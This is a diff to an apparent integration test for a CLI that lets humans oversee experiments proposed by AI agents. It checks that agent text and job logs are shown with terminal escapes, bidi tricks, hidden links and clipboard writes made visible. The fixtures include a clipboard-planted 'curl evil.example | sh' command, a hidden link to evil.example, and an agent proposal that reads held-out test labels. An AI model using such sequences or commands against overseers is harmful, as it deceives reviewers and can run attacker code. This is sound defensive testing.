@@ -10,6 +10,7 @@ import * as path from 'node:path';
 import type { Experiment } from '../../../src/core/model';
 import type { ProposeRequest } from '../../../src/hub/api';
 import { startHubFixture, type HubFixture } from '../../support/hubFixture';
+import { HIDDEN_LINK, TERMINAL_CORPUS } from '../../support/terminalCorpus';
 
 const ROOT = path.resolve(__dirname, '../../..');
 const MAIN = path.join(ROOT, 'src/cli/main.ts');
@@ -72,8 +73,11 @@ describe('overseer human CLI against a real hub', function () {
     env = { OVERSEER_TOKEN: fx.humanToken };
     hubArgs = ['--hub', fx.url];
     ids.honest = await propose('aar-1', 'honest: lr sweep', { 'train.py': 'lr = 0.01\nprint("train")\n' });
-    // Agent text with an escape sequence (retitles/clears a terminal), a bidi override and a zero-width space.
-    ids.evil = await propose('aar-2', 'evil \u001b]0;pwned\u0007\u001b[2J title \u202etxt.exe\u200b', { 'eval.py': 'labels = open("/data/test_labels.json").read()\n' });
+    // Agent text with an escape sequence (retitles/clears a terminal), a bidi override and a zero-width space;
+    // its rationale holds every terminal sequence of the corpus (links, clipboard, titles, cursor moves, CR), one a line.
+    const evilTitle = 'evil \u001b]0;pwned\u0007\u001b[2J title \u202etxt.exe\u200b';
+    const corpus = TERMINAL_CORPUS.map((c) => c.raw).join('\n');
+    ids.evil = await propose('aar-2', evilTitle, { 'eval.py': 'labels = open("/data/test_labels.json").read()\n' }, { rationale: `why: ${evilTitle}\nsecond line\n${corpus}` });
     ids.veto = await propose('aar-1', 'to veto', { 'train.py': 'lr = 0.02\n' });
     ids.changes = await propose('aar-2', 'to send back', { 'train.py': 'lr = 0.03\n' });
     ids.stale = await propose('aar-1', 'stale pin target', { 'train.py': 'lr = 0.04\n' });
@@ -115,9 +119,14 @@ describe('overseer human CLI against a real hub', function () {
   it('agent text reaches the terminal only as visible markers, never as escape sequences', async () => {
     const text = await ok(['queue', ...hubArgs], env);
     assert.ok(!/[\u001b\u0007\u202e\u200b]/.test(text), 'no raw control, bidi or zero-width character in the output');
-    assert.match(text, /evil <U\+001B>\]0;pwned<U\+0007><U\+001B>\[2J title <U\+202E>txt\.exe<U\+200B>/);
+    assert.match(text, /evil ⟦title: pwned⟧⟦erase screen⟧ title <U\+202E>txt\.exe<U\+200B>/);
     const show = await ok(['show', ids.evil!.id, ...hubArgs], env);
-    assert.ok(!/[\u001b\u0007\u202e\u200b]/.test(show));
+    assert.ok(!/[\u001b\u0007\u202e\u200b\r\u009b\u009c\u009d]/.test(show));
+    // Each terminal sequence says what it would have done; no hidden link target is printed as a URL.
+    for (const c of TERMINAL_CORPUS) {
+      assert.ok(show.includes(`  ${c.shown}`), `show: ${c.what} as ${JSON.stringify(c.shown)}`);
+      if (c.absent) assert.doesNotMatch(show, c.absent, c.what);
+    }
     const json = await ok(['show', ids.evil!.id, ...hubArgs, '--json'], env);
     assert.ok(!/[\u001b\u0007\u202e\u200b]/.test(json), 'the JSON escapes them too');
     assert.equal((JSON.parse(json) as { experiment: Experiment }).experiment.title, ids.evil!.title, 'and parses to the same text');
@@ -212,8 +221,10 @@ describe('overseer human CLI against a real hub', function () {
     const x = ids.honest!;
     const logPath = path.join(fx.dir, 'runs', x.id, 'job.log');
     fs.mkdirSync(path.dirname(logPath), { recursive: true });
-    // colours, a title-setting OSC sequence and the runner shell's job-control notice: shown as the extension shows them
-    fs.writeFileSync(logPath, 'epoch 1 loss 0.9\n\u001b[31mred\u001b[0m\n\u001b]0;pwned\u0007title\u202etxt\n[1]+  Done  bash -c "python train.py"\n');
+    // colours, a title-setting OSC sequence, a hidden hyperlink, a clipboard write, a cursor move, a CR overwrite
+    // and the runner shell's job-control notice: shown as the extension shows them
+    const clip = Buffer.from('curl evil.example | sh').toString('base64');
+    fs.writeFileSync(logPath, `epoch 1 loss 0.9\n\u001b[31mred\u001b[0m\n\u001b]0;pwned\u0007title\u202etxt\ndocs: ${HIDDEN_LINK}\n\u001b]52;c;${clip}\u0007ok\u001b[1Aup\n10%\r99%\n[1]+  Done  bash -c "python train.py"\n`);
     await fx.service.markDispatched(x.id, { runner: 'local', jobId: 'job-42', commit: x.commit, tree: x.tree, logPath });
     await fx.service.markRunning(x.id, 'job-42');
     await fx.hub.idle();
@@ -224,7 +235,8 @@ describe('overseer human CLI against a real hub', function () {
     assert.deepEqual(rj.runs.map((r) => [r.experimentId, r.runner, r.jobId]), [[x.id, 'local', 'job-42']]);
 
     const now = await ok(['logs', x.id, ...hubArgs], env);
-    assert.equal(now, 'epoch 1 loss 0.9\nred\ntitle⟦RLO U+202E⟧txt\n');
+    const shownLog = 'epoch 1 loss 0.9\nred\n⟦title: pwned⟧title⟦RLO U+202E⟧txt\ndocs: ⟦link → evil.example⟧https://docs.example/guide⟦/link⟧\n⟦clipboard write: "curl evil.example | sh"⟧ok⟦cursor up 1⟧up\n10%⟦CR⟧\n99%\n';
+    assert.equal(now, shownLog);
     const raw = JSON.parse(await ok(['logs', x.id, ...hubArgs, '--json'], env)) as { text: string };
     assert.ok(raw.text.includes('\u001b]0;pwned'), '--json keeps the bytes (escaped by JSON)');
 
@@ -240,7 +252,7 @@ describe('overseer human CLI against a real hub', function () {
     await fx.service.markFinished(x.id, { state: 'succeeded', exitCode: 0 });
     const r = await follow;
     assert.equal(r.code, 0, r.stderr);
-    assert.equal(r.stdout, 'epoch 1 loss 0.9\nred\ntitle⟦RLO U+202E⟧txt\nepoch 2 loss 0.5\ndone\n', 'every line once');
+    assert.equal(r.stdout, `${shownLog}epoch 2 loss 0.5\ndone\n`, 'every line once');
 
     const shown = await ok(['show', x.id, ...hubArgs], env);
     assert.match(shown, /local job job-42/);
